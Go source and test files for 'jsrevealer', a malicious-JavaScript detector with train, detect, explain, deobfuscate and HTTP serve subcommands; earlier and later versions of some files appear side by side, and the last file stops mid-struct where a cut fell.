	var v serve.Version
	if err := json.NewDecoder(resp5.Body).Decode(&v); err != nil {
		t.Fatal(err)
	}
	if !v.ModelLoaded || v.ModelPath != model || len(v.SHA256) != 64 {
		t.Errorf("/version = %+v", v)
	}

	// All five scans must be visible on the registry the mux exposes.
	var total int64
	for _, vl := range []string{"benign", "malicious", "degraded", "failed"} {
		total += reg.Counter("jsrevealer_scan_files_total", "", obs.Labels{"verdict": vl}).Value()
	}
	if total != 5 {
		t.Errorf("scan files counter total = %d, want 5", total)
	}
}

func mustJSON(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}
