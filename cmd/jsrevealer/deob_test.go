package main

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// captureStdout runs f with os.Stdout redirected into a pipe and returns
// what f printed.
func captureStdout(t *testing.T, f func() error) (string, error) {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdout
	os.Stdout = w
	ferr := f()
	os.Stdout = old
	w.Close()
	out, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(out), ferr
}

// TestDeobSubcommand: the standalone normalizer must decode a stacked
// obfuscation (opaque predicate around an eval of folded string literals)
// down to the plain assignment, and reject malformed invocations.
func TestDeobSubcommand(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "obf.js")
	src := `if (!![]) { eval("var x = \"a\" + \"b\";"); }`
	if err := os.WriteFile(in, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}

	out, err := captureStdout(t, func() error {
		_, err := run([]string{"deob", in})
		return err
	})
	if err != nil {
		t.Fatalf("deob: %v", err)
	}
	if !strings.Contains(out, `var x = "ab";`) {
		t.Errorf("deob output = %q, want the folded assignment", out)
	}
	if strings.Contains(out, "eval") || strings.Contains(out, "!![]") {
		t.Errorf("deob output still carries obfuscation scaffolding: %q", out)
	}

	// More than one positional argument is an invocation error.
	if _, err := run([]string{"deob", in, in}); err == nil {
		t.Error("deob accepted two input files")
	}
	// Unparseable input surfaces the parse error rather than exiting 0.
	bad := filepath.Join(dir, "bad.js")
	if err := os.WriteFile(bad, []byte("var = = ;"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := captureStdout(t, func() error {
		_, err := run([]string{"deob", bad})
		return err
	}); err == nil {
		t.Error("deob accepted unparseable input")
	}
}
