package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestTrainExplainDetectCycle(t *testing.T) {
	if testing.Short() {
		t.Skip("full CLI cycle in -short mode")
	}
	dir := t.TempDir()
	model := filepath.Join(dir, "model.json")

	if _, err := run([]string{"train", "-benign", "40", "-malicious", "40",
		"-seed", "5", "-model", model}); err != nil {
		t.Fatalf("train: %v", err)
	}
	if _, err := os.Stat(model); err != nil {
		t.Fatalf("model not written: %v", err)
	}

	if _, err := run([]string{"explain", "-model", model, "-top", "3"}); err != nil {
		t.Fatalf("explain: %v", err)
	}

	// A realistically sized benign file: very short inputs carry too few
	// path contexts for a stable verdict.
	benign := filepath.Join(dir, "benign.js")
	benignSrc := `
var settings = { theme: "light", perPage: 20, showHeader: true };
function renderList(items, container) {
  var html = "";
  for (var i = 0; i < items.length && i < settings.perPage; i++) {
    html += "<li>" + items[i].title + "</li>";
  }
  container.innerHTML = "<ul>" + html + "</ul>";
  return items.length;
}
function applyTheme(el) {
  if (settings.theme === "dark") {
    el.className = "dark";
  } else {
    el.className = "light";
  }
}
var list = document.getElementById("results");
applyTheme(list);
renderList([{ title: "first" }, { title: "second" }], list);
`
	if err := os.WriteFile(benign, []byte(benignSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	statsPath := filepath.Join(dir, "stats.json")
	profPath := filepath.Join(dir, "detect.pprof")
	code, err := run([]string{"detect", "-model", model,
		"-stats-json", statsPath, "-profile", "heap", "-profile-out", profPath, benign})
	if err != nil {
		t.Fatalf("detect: %v", err)
	}
	if code == 2 {
		t.Fatalf("detect errored on the benign file (exit %d)", code)
	}

	// -stats-json must dump the taxonomy counts and the metrics snapshot.
	raw, err := os.ReadFile(statsPath)
	if err != nil {
		t.Fatalf("stats-json not written: %v", err)
	}
	var dump struct {
		Stats struct {
			Scanned     int `json:"Scanned"`
			ParseErrors int `json:"ParseErrors"`
		} `json:"stats"`
		Metrics struct {
			Counters   []json.RawMessage `json:"counters"`
			Histograms []json.RawMessage `json:"histograms"`
		} `json:"metrics"`
	}
	if err := json.Unmarshal(raw, &dump); err != nil {
		t.Fatalf("stats-json invalid: %v", err)
	}
	if dump.Stats.Scanned != 1 || dump.Stats.ParseErrors != 0 {
		t.Errorf("stats-json stats = %+v", dump.Stats)
	}
	if len(dump.Metrics.Counters) == 0 || len(dump.Metrics.Histograms) == 0 {
		t.Error("stats-json metrics snapshot empty")
	}

	// -profile heap must leave a non-empty pprof file behind.
	if fi, err := os.Stat(profPath); err != nil || fi.Size() == 0 {
		t.Errorf("heap profile not written: %v", err)
	}

	// A file the full pipeline cannot classify (nesting beyond the parser's
	// recursion budget) must degrade, not crash, and surface exit code 2.
	deep := filepath.Join(dir, "deep.js")
	deepSrc := "var x = " + strings.Repeat("(", 60000) + "1" + strings.Repeat(")", 60000) + ";"
	if err := os.WriteFile(deep, []byte(deepSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	code, err = run([]string{"detect", "-model", model, "-workers", "2", "-timeout", "30s", deep})
	if err != nil {
		t.Fatalf("detect (degraded): %v", err)
	}
	if code != 2 {
		t.Errorf("degraded scan exit = %d, want 2", code)
	}
}

func TestRunRejectsBadInvocations(t *testing.T) {
	if _, err := run(nil); err == nil {
		t.Error("no args accepted")
	}
	if _, err := run([]string{"bogus"}); err == nil {
		t.Error("unknown subcommand accepted")
	}
	if _, err := run([]string{"detect", "-model", "missing.json"}); err == nil {
		t.Error("detect without files accepted")
	}
	if _, err := run([]string{"explain", "-model", "does-not-exist.json"}); err == nil {
		t.Error("explain with missing model accepted")
	}
}
