// Command jsrevealer trains and runs the malicious-JavaScript detector.
//
// Usage:
//
//	jsrevealer train  [-benign N] [-malicious N] [-seed N] [-train-workers N]
//	                  [-batch-size N] [-checkpoint-dir DIR] [-resume]
//	                  [-profile cpu|heap] -model model.json
//	jsrevealer detect -model model.json [-workers N] [-timeout D] [-max-bytes N] [-cache-size N] [-triage-threshold T] [-deobfuscate] [-rules-dir DIR] [-profile cpu|heap] [-stats-json out.json] file.js [file2.js ...]
//	jsrevealer explain -model model.json [-top N]
//	jsrevealer deob   [-max-rounds N] [-max-nodes N] [-timeout D] [file.js]
//	jsrevealer serve  [-addr host:port] [-model model.json] [-log-level L]
//	                  [-max-body N] [-max-batch N] [-max-concurrent N] [-max-queue N]
//	                  [-rate R] [-burst N] [-max-jobs N] [-job-ttl D] [-drain-timeout D]
//	                  [-triage-threshold T] [-deobfuscate]
//	                  [-rules-dir DIR] [-alert-webhook URL]
//
// The train subcommand trains on the synthetic corpus, fanning the heavy
// stages out over -train-workers CPUs (the fitted model is bit-identical at
// any worker count). With -checkpoint-dir each completed stage is written
// to disk and SIGINT/SIGTERM interrupt the fit cleanly; a rerun with
// -resume continues from the latest checkpointed stage. detect classifies
// files with a persisted model; explain prints the most important learned
// features (the paper's Table VII view); serve runs the production scan
// service (internal/serve): /metrics, /healthz, net/http/pprof, and — when
// a model is given — POST /detect (single script), POST /scan (streaming
// NDJSON batch), POST /jobs + GET /jobs/{id} (async jobs), POST
// /admin/reload and SIGHUP (model hot-reload with shadow validation), POST
// /admin/reload-rules (rule-set hot-reload, with -rules-dir), and GET
// /version (live model and rule-set provenance). Admission control (bounded queue,
// per-client rate limiting) sheds overload as 429 with Retry-After, and
// shutdown drains in-flight work within -drain-timeout.
//
// train and detect accept -profile cpu|heap with -profile-out to write a
// pprof profile of the run; detect additionally accepts -stats-json to dump
// scan statistics plus the full metrics snapshot as JSON.
//
// detect runs files through the hardened scan engine: each file is
// classified under a per-file deadline (-timeout) with size (-max-bytes),
// token-count, and parser recursion-depth guards, across -workers
// concurrent workers. With -deobfuscate the classifier sees the
// internal/deobfuscate-normalized source (constant folding, string-array
// unfolding, eval-of-literal unwrapping, dead-branch elimination, escape
// decoding); verdicts, cache keys, and audit digests still answer for the
// original bytes. With -rules-dir the declarative rules layer
// (internal/rules) runs alongside the model: deny-list hits and forcing
// signatures convict regardless of the model's score, allow-list hits
// short-circuit benign, and matched rule ids are printed next to each
// verdict. Files the full pipeline cannot classify degrade to a lexical
// heuristic and are reported as DEGRADED with the structured reason on
// stderr. Exit codes: 0 all benign, 1 at least one file flagged malicious,
// 2 at least one file degraded or failed.
//
// deob runs the normalization pipeline standalone: it reads one file (or
// stdin when no file is given), prints the normalized source to stdout, and
// reports which passes fired — with change counts and durations — on
// stderr. Exit code 0 whether or not any pass fired; parse failures exit 1.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
	"jsrevealer/internal/scan"
	"jsrevealer/internal/triage"
)

func main() {
	code, err := run(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, "jsrevealer:", err)
		os.Exit(1)
	}
	os.Exit(code)
}

// run executes a subcommand and returns the process exit code: 0 for all
// benign, 1 when any file was flagged malicious, 2 when any file errored.
func run(args []string) (int, error) {
	if len(args) == 0 {
		return 0, fmt.Errorf("usage: jsrevealer <train|detect|explain|deob|serve> [flags]")
	}
	switch args[0] {
	case "train":
		return 0, runTrain(args[1:])
	case "detect":
		return runDetect(args[1:])
	case "explain":
		return 0, runExplain(args[1:])
	case "deob":
		return 0, runDeob(args[1:])
	case "serve":
		return 0, runServe(args[1:])
	default:
		return 0, fmt.Errorf("unknown subcommand %q", args[0])
	}
}

func runTrain(args []string) (err error) {
	fs := flag.NewFlagSet("train", flag.ContinueOnError)
	benign := fs.Int("benign", 400, "benign training samples")
	malicious := fs.Int("malicious", 400, "malicious training samples")
	seed := fs.Int64("seed", 42, "random seed")
	model := fs.String("model", "jsrevealer-model.json", "output model path")
	trainWorkers := fs.Int("train-workers", 0, "parallel training workers (0 = all CPUs); the fitted model is identical at any count")
	batchSize := fs.Int("batch-size", 0, "pre-training minibatch size (0 or 1 = per-sample SGD)")
	ckptDir := fs.String("checkpoint-dir", "", "write stage checkpoints to this directory")
	resume := fs.Bool("resume", false, "resume from the latest valid checkpoint in -checkpoint-dir")
	profile := fs.String("profile", "", "write a pprof profile of the run: cpu or heap")
	profileOut := fs.String("profile-out", "jsrevealer-train.pprof", "profile output path")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *resume && *ckptDir == "" {
		return fmt.Errorf("train: -resume requires -checkpoint-dir")
	}
	stopProfile, err := obs.StartProfile(*profile, *profileOut)
	if err != nil {
		return err
	}
	defer func() {
		if perr := stopProfile(); perr != nil && err == nil {
			err = perr
		}
	}()
	samples := corpus.Generate(corpus.Config{Benign: *benign, Malicious: *malicious, Seed: *seed})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Seed = *seed
	opts.Embedding.Seed = *seed
	opts.TrainWorkers = *trainWorkers
	opts.Embedding.BatchSize = *batchSize

	// SIGINT/SIGTERM cancel the fit cooperatively: completed stages are
	// already checkpointed, so a rerun with -resume picks up from there.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	fmt.Printf("training on %d samples...\n", len(train))
	p, err := core.PrepareCheckpointed(ctx, train, nil, opts,
		core.CheckpointConfig{Dir: *ckptDir, Resume: *resume})
	if err != nil {
		if errors.Is(err, context.Canceled) && *ckptDir != "" {
			fmt.Fprintf(os.Stderr, "jsrevealer: interrupted; rerun with -checkpoint-dir %s -resume to continue\n", *ckptDir)
		}
		return err
	}
	det, err := p.Build(opts.KBenign, opts.KMalicious, opts.Trainer)
	if err != nil {
		return err
	}
	if err := det.Save(*model); err != nil {
		return err
	}
	fmt.Printf("model written to %s (outlier detector: %s, %d features)\n",
		*model, det.OutlierDetectorName, len(det.Features()))
	return nil
}

func runDetect(args []string) (code int, err error) {
	fs := flag.NewFlagSet("detect", flag.ContinueOnError)
	model := fs.String("model", "jsrevealer-model.json", "model path")
	workers := fs.Int("workers", 0, "concurrent scan workers (0 = GOMAXPROCS)")
	timeout := fs.Duration("timeout", scan.DefaultTimeout, "per-file classification deadline")
	maxBytes := fs.Int64("max-bytes", scan.DefaultMaxBytes, "per-file size cap; larger files degrade to the fallback")
	cacheSize := fs.Int("cache-size", 0, "verdict cache entries; 0 = default, negative disables caching of repeated content")
	triageThreshold := fs.Float64("triage-threshold", 0,
		"lexical triage threshold in (0,1]: scripts scoring below it are cleared as benign without parsing; 0 disables the triage tier (every file runs the full pipeline)")
	deob := fs.Bool("deobfuscate", false, "normalize each script through the deobfuscation pipeline before classification")
	rulesDir := fs.String("rules-dir", "", "directory of *.json rule files (IOC lists and signatures) combined with the model; empty disables the rules layer")
	profile := fs.String("profile", "", "write a pprof profile of the run: cpu or heap")
	profileOut := fs.String("profile-out", "jsrevealer-detect.pprof", "profile output path")
	statsJSON := fs.String("stats-json", "", "write scan stats and the metrics snapshot as JSON to this path")
	if err := fs.Parse(args); err != nil {
		return 0, err
	}
	files := fs.Args()
	if len(files) == 0 {
		return 0, fmt.Errorf("detect: no input files")
	}
	stopProfile, err := obs.StartProfile(*profile, *profileOut)
	if err != nil {
		return 0, err
	}
	defer func() {
		if perr := stopProfile(); perr != nil && err == nil {
			err = perr
		}
	}()
	det, err := core.Load(*model)
	if err != nil {
		return 0, err
	}
	var ruleProvider rules.Provider
	if *rulesDir != "" {
		// The CLI loads rules once per invocation: same validation as a
		// serve-side reload (including the shadow corpus), pinned at
		// generation 1 for the run.
		set, err := rules.Load(*rulesDir)
		if err != nil {
			return 0, err
		}
		if err := rules.ShadowValidate(set); err != nil {
			return 0, fmt.Errorf("detect: shadow validation rejected %s: %w", *rulesDir, err)
		}
		set.Gen = 1
		ruleProvider = rules.StaticProvider{Set: set}
	}
	eng := scan.New(det, scan.Config{
		Workers:     *workers,
		Timeout:     *timeout,
		MaxBytes:    *maxBytes,
		CacheSize:   *cacheSize,
		Triage:      triage.Config{Threshold: *triageThreshold},
		Deobfuscate: deobfuscate.Config{Enabled: *deob},
		Rules:       ruleProvider,
	})
	reg := obs.NewRegistry()
	results, stats := eng.ScanFiles(obs.WithRegistry(context.Background(), reg), files)
	exit := 0
	for _, r := range results {
		hits := ""
		if len(r.RuleHits) > 0 {
			names := make([]string, len(r.RuleHits))
			for i, h := range r.RuleHits {
				names[i] = h.Rule
			}
			hits = " [rules: " + strings.Join(names, ", ") + "]"
		}
		switch r.Verdict {
		case scan.VerdictMalicious:
			fmt.Printf("%s: MALICIOUS%s\n", r.Path, hits)
			if exit == 0 {
				exit = 1
			}
		case scan.VerdictBenign:
			fmt.Printf("%s: benign%s\n", r.Path, hits)
		case scan.VerdictDegraded:
			label := "benign"
			if r.Malicious {
				label = "MALICIOUS"
			}
			fmt.Printf("%s: DEGRADED (fallback verdict: %s)\n", r.Path, label)
			fmt.Fprintf(os.Stderr, "jsrevealer: %s: degraded: %v\n", r.Path, r.Err)
			exit = 2
		default:
			fmt.Printf("%s: FAILED\n", r.Path)
			fmt.Fprintf(os.Stderr, "jsrevealer: %s: failed: %v\n", r.Path, r.Err)
			exit = 2
		}
	}
	fmt.Fprintf(os.Stderr,
		"jsrevealer: scanned %d (flagged %d, triaged %d, deobfuscated %d, rule-matched %d, degraded %d, failed %d) in %s; latency p50 %s p99 %s\n",
		stats.Scanned, stats.Flagged, stats.Triaged, stats.Deobfuscated, stats.RuleMatched, stats.Degraded, stats.Failed,
		stats.Wall.Round(time.Millisecond),
		stats.P50.Round(time.Millisecond), stats.P99.Round(time.Millisecond))
	fmt.Fprintf(os.Stderr,
		"jsrevealer: errors by reason: parse %d, timeout %d, too_large %d, depth_limit %d, internal %d\n",
		stats.ParseErrors, stats.Timeouts, stats.TooLarge, stats.DepthLimit, stats.Internal)
	if *statsJSON != "" {
		if err := writeStatsJSON(*statsJSON, stats, reg); err != nil {
			return 0, err
		}
	}
	return exit, nil
}

// writeStatsJSON dumps the scan statistics plus the full metrics snapshot
// of the scan's registry, the machine-readable twin of the stderr summary.
func writeStatsJSON(path string, stats scan.Stats, reg *obs.Registry) error {
	payload := struct {
		Stats   scan.Stats   `json:"stats"`
		Metrics obs.Snapshot `json:"metrics"`
	}{stats, reg.Snapshot()}
	data, err := json.MarshalIndent(payload, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

func runExplain(args []string) error {
	fs := flag.NewFlagSet("explain", flag.ContinueOnError)
	model := fs.String("model", "jsrevealer-model.json", "model path")
	top := fs.Int("top", 5, "number of features to show")
	if err := fs.Parse(args); err != nil {
		return err
	}
	det, err := core.Load(*model)
	if err != nil {
		return err
	}
	feats, err := det.Explain(*top)
	if err != nil {
		return err
	}
	for _, f := range feats {
		origin := "benign"
		if f.FromMalicious {
			origin = "malicious"
		}
		fmt.Printf("importance=%.3f origin=%s\n  central path: %s\n",
			f.Importance, origin, f.CentralPath)
	}
	return nil
}
