// Command jsrevealer trains and runs the malicious-JavaScript detector.
//
// Usage:
//
//	jsrevealer train  [-benign N] [-malicious N] [-seed N] -model model.json
//	jsrevealer detect -model model.json file.js [file2.js ...]
//	jsrevealer explain -model model.json [-top N]
//
// The train subcommand trains on the synthetic corpus; detect classifies
// files with a persisted model; explain prints the most important learned
// features (the paper's Table VII view).
package main

import (
	"flag"
	"fmt"
	"os"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
)

func main() {
	code, err := run(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, "jsrevealer:", err)
		os.Exit(1)
	}
	os.Exit(code)
}

// run executes a subcommand and returns the process exit code: 0 for all
// benign, 1 when any file was flagged malicious, 2 when any file errored.
func run(args []string) (int, error) {
	if len(args) == 0 {
		return 0, fmt.Errorf("usage: jsrevealer <train|detect|explain> [flags]")
	}
	switch args[0] {
	case "train":
		return 0, runTrain(args[1:])
	case "detect":
		return runDetect(args[1:])
	case "explain":
		return 0, runExplain(args[1:])
	default:
		return 0, fmt.Errorf("unknown subcommand %q", args[0])
	}
}

func runTrain(args []string) error {
	fs := flag.NewFlagSet("train", flag.ContinueOnError)
	benign := fs.Int("benign", 400, "benign training samples")
	malicious := fs.Int("malicious", 400, "malicious training samples")
	seed := fs.Int64("seed", 42, "random seed")
	model := fs.String("model", "jsrevealer-model.json", "output model path")
	if err := fs.Parse(args); err != nil {
		return err
	}
	samples := corpus.Generate(corpus.Config{Benign: *benign, Malicious: *malicious, Seed: *seed})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Seed = *seed
	opts.Embedding.Seed = *seed
	fmt.Printf("training on %d samples...\n", len(train))
	det, err := core.Train(train, nil, opts)
	if err != nil {
		return err
	}
	if err := det.Save(*model); err != nil {
		return err
	}
	fmt.Printf("model written to %s (outlier detector: %s, %d features)\n",
		*model, det.OutlierDetectorName, len(det.Features()))
	return nil
}

func runDetect(args []string) (int, error) {
	fs := flag.NewFlagSet("detect", flag.ContinueOnError)
	model := fs.String("model", "jsrevealer-model.json", "model path")
	if err := fs.Parse(args); err != nil {
		return 0, err
	}
	files := fs.Args()
	if len(files) == 0 {
		return 0, fmt.Errorf("detect: no input files")
	}
	det, err := core.Load(*model)
	if err != nil {
		return 0, err
	}
	exit := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			return 0, err
		}
		verdict, err := det.Detect(string(data))
		switch {
		case err != nil:
			fmt.Printf("%s: error: %v\n", f, err)
			exit = 2
		case verdict:
			fmt.Printf("%s: MALICIOUS\n", f)
			if exit == 0 {
				exit = 1
			}
		default:
			fmt.Printf("%s: benign\n", f)
		}
	}
	return exit, nil
}

func runExplain(args []string) error {
	fs := flag.NewFlagSet("explain", flag.ContinueOnError)
	model := fs.String("model", "jsrevealer-model.json", "model path")
	top := fs.Int("top", 5, "number of features to show")
	if err := fs.Parse(args); err != nil {
		return err
	}
	det, err := core.Load(*model)
	if err != nil {
		return err
	}
	feats, err := det.Explain(*top)
	if err != nil {
		return err
	}
	for _, f := range feats {
		origin := "benign"
		if f.FromMalicious {
			origin = "malicious"
		}
		fmt.Printf("importance=%.3f origin=%s\n  central path: %s\n",
			f.Importance, origin, f.CentralPath)
	}
	return nil
}
