package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"jsrevealer/internal/core"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
)

// maxDetectBody caps the request body of POST /detect; larger scripts are
// rejected before they reach the pipeline (the engine has its own guards,
// but the HTTP layer should not buffer unbounded input).
const maxDetectBody = 16 << 20

// runServe starts the observability endpoint: /metrics (Prometheus text
// format), /healthz, the net/http/pprof handlers, and — when a model is
// given — POST /detect classifying the request body.
func runServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", "127.0.0.1:9090", "listen address (host:port, port 0 picks a free one)")
	model := fs.String("model", "", "optional model path; enables POST /detect")
	cacheSize := fs.Int("cache-size", 0, "verdict cache entries for /detect; 0 = default, negative disables")
	readyFile := fs.String("ready-file", "", "write the resolved listen address to this file once serving")
	logLevel := fs.String("log-level", "info", "structured log level: debug|info|warn|error|off")
	if err := fs.Parse(args); err != nil {
		return err
	}
	lvl, err := obs.ParseLevel(*logLevel)
	if err != nil {
		return err
	}
	obs.DefaultLogger().SetLevel(lvl)

	mux, err := newServeMux(obs.Default(), *model, *cacheSize)
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	if *readyFile != "" {
		if err := os.WriteFile(*readyFile, []byte(ln.Addr().String()), 0o644); err != nil {
			ln.Close()
			return err
		}
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	srv := &http.Server{Handler: requestLog(mux)}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "jsrevealer: serving on http://%s (/metrics /healthz /debug/pprof/)\n", ln.Addr())
	obs.DefaultLogger().Event(ctx, obs.LevelInfo, "serve.listening",
		"addr", ln.Addr().String(), "model", *model)

	select {
	case <-ctx.Done():
		obs.DefaultLogger().Event(nil, obs.LevelInfo, "serve.shutdown", "reason", "signal")
		shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		return srv.Shutdown(shutCtx)
	case err := <-errc:
		if err == http.ErrServerClosed {
			return nil
		}
		return err
	}
}

// newServeMux assembles the serve handler against reg. Pre-registers the
// detector-stage and scan metric families so /metrics exposes the full
// surface before any traffic. Separated from runServe so tests can drive
// it through httptest without binding a port.
func newServeMux(reg *obs.Registry, modelPath string, cacheSize int) (http.Handler, error) {
	core.RegisterStageMetrics(reg)
	scan.RegisterMetrics(reg)
	mux := obs.NewServeMux(reg)
	if modelPath != "" {
		det, err := core.Load(modelPath)
		if err != nil {
			return nil, err
		}
		eng := scan.New(det, scan.Config{CacheSize: cacheSize})
		mux.Handle("/detect", detectHandler(eng, reg))
	}
	return mux, nil
}

// detectHandler classifies the POST body and answers with a JSON verdict.
// Scan metrics land in reg, so served traffic shows up on /metrics.
func detectHandler(eng *scan.Engine, reg *obs.Registry) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST a JavaScript source body", http.StatusMethodNotAllowed)
			return
		}
		body, err := io.ReadAll(io.LimitReader(r.Body, maxDetectBody+1))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		if len(body) > maxDetectBody {
			http.Error(w, "request body exceeds 16MiB", http.StatusRequestEntityTooLarge)
			return
		}
		name := r.URL.Query().Get("name")
		if name == "" {
			name = "request.js"
		}
		ctx := obs.WithRegistry(r.Context(), reg)
		res := eng.ScanSource(ctx, name, string(body))
		resp := map[string]any{
			"path":      res.Path,
			"verdict":   res.Verdict.String(),
			"malicious": res.Malicious,
		}
		if res.Err != nil {
			resp["error"] = res.Err.Error()
			resp["reason"] = scan.Reason(res.Err)
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(resp)
	})
}

// requestLog wraps h with structured access logging and request metrics on
// the default registry.
func requestLog(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		ctx, sp := obs.StartSpan(r.Context(), "http.request")
		h.ServeHTTP(w, r.WithContext(ctx))
		sp.End()
		obs.DefaultLogger().Event(ctx, obs.LevelDebug, "http.request",
			"method", r.Method, "path", r.URL.Path, "elapsed", time.Since(start))
	})
}
