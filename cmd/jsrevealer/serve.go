package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
	"jsrevealer/internal/serve"
	"jsrevealer/internal/triage"
)

// runServe is a flag-parsing wrapper around internal/serve: it builds the
// subsystem's Config from flags, binds the listener, wires SIGHUP to model
// hot-reload, and drives the graceful-drain shutdown sequence. Everything
// HTTP-facing lives in internal/serve.
func runServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", "127.0.0.1:9090", "listen address (host:port, port 0 picks a free one)")
	model := fs.String("model", "", "optional model path; enables /detect, /scan, and /jobs")
	readyFile := fs.String("ready-file", "", "write the resolved listen address to this file once serving (removed on exit)")
	logLevel := fs.String("log-level", "info", "structured log level: debug|info|warn|error|off")

	// Scan-engine knobs, shared with the detect CLI.
	workers := fs.Int("workers", 0, "scan worker pool size; 0 = GOMAXPROCS")
	timeout := fs.Duration("timeout", 0, "per-script deadline; 0 = engine default")
	maxBytes := fs.Int64("max-bytes", 0, "per-script size cap in bytes; 0 = engine default")
	cacheSize := fs.Int("cache-size", 0, "verdict cache entries; 0 = default, negative disables")
	triageThreshold := fs.Float64("triage-threshold", 0,
		"lexical triage threshold in (0,1]: scripts scoring below it are cleared as benign without parsing; 0 disables the triage tier")
	deob := fs.Bool("deobfuscate", false,
		"normalize scripts through the deobfuscation pipeline before classification; per-request ?deobfuscate= overrides")
	rulesDir := fs.String("rules-dir", "",
		"directory of *.json rule files (IOC lists and signatures) combined with the model; hot-reloadable via SIGHUP or POST /admin/reload-rules (empty disables)")
	alertWebhook := fs.String("alert-webhook", "",
		"http(s) endpoint POSTed one JSON alert per deny hit or forcing-signature verdict (empty disables)")

	// Serving-subsystem knobs.
	maxBody := fs.Int64("max-body", serve.DefaultMaxBody, "per-request body cap in bytes")
	maxBatch := fs.Int("max-batch", serve.DefaultMaxBatch, "max scripts per batch request")
	maxConcurrent := fs.Int("max-concurrent", 0, "max requests executing at once; 0 = 2x GOMAXPROCS")
	maxQueue := fs.Int("max-queue", serve.DefaultMaxQueue, "admission waiting room; beyond it requests fast-fail 429 (negative = none)")
	rate := fs.Float64("rate", 0, "per-client requests/second token-bucket rate; 0 disables rate limiting")
	burst := fs.Int("burst", 0, "rate-limit burst; 0 = max(1, -rate)")
	maxJobs := fs.Int("max-jobs", serve.DefaultMaxJobs, "async job store capacity")
	jobWorkers := fs.Int("job-workers", serve.DefaultJobWorkers, "async job worker count")
	jobTTL := fs.Duration("job-ttl", serve.DefaultJobTTL, "how long finished jobs stay pollable")
	drainTimeout := fs.Duration("drain-timeout", serve.DefaultDrainTimeout, "graceful shutdown budget: finish in-flight work before exiting")

	// Durable job-queue knobs.
	queueDir := fs.String("queue-dir", "", "durable job queue directory; jobs survive crashes and restarts (empty = in-memory jobs)")
	queueWatermark := fs.Int("queue-watermark", serve.DefaultQueueWatermark, "durable backlog beyond which admission answers 429")
	queueLease := fs.Duration("queue-lease", serve.DefaultQueueLease, "durable delivery lease; a worker missing heartbeats this long loses the job")
	queueAttempts := fs.Int("queue-attempts", 0, "delivery attempts before a durable job dead-letters; 0 = queue default")

	// Tracing and audit knobs.
	traceBuffer := fs.Int("trace-buffer", 0, "traces retained for /debug/traces; 0 = default, negative disables")
	slowTrace := fs.Duration("slow-trace", 0, "latency past which a trace is retained with bias and a CPU profile may fire; 0 = default")
	profileDir := fs.String("profile-dir", "", "directory for automatic slow-trace CPU profiles (empty disables)")
	auditDir := fs.String("audit-dir", "", "verdict audit trail directory: one NDJSON line per verdict (empty disables)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	lvl, err := obs.ParseLevel(*logLevel)
	if err != nil {
		return err
	}
	obs.DefaultLogger().SetLevel(lvl)

	s, err := serve.New(serve.Config{
		ModelPath: *model,
		Scan: scan.Config{
			Workers:     *workers,
			Timeout:     *timeout,
			MaxBytes:    *maxBytes,
			CacheSize:   *cacheSize,
			Triage:      triage.Config{Threshold: *triageThreshold},
			Deobfuscate: deobfuscate.Config{Enabled: *deob},
		},
		MaxBody:          *maxBody,
		MaxBatch:         *maxBatch,
		MaxConcurrent:    *maxConcurrent,
		MaxQueue:         *maxQueue,
		RatePerSec:       *rate,
		Burst:            *burst,
		MaxJobs:          *maxJobs,
		JobWorkers:       *jobWorkers,
		JobTTL:           *jobTTL,
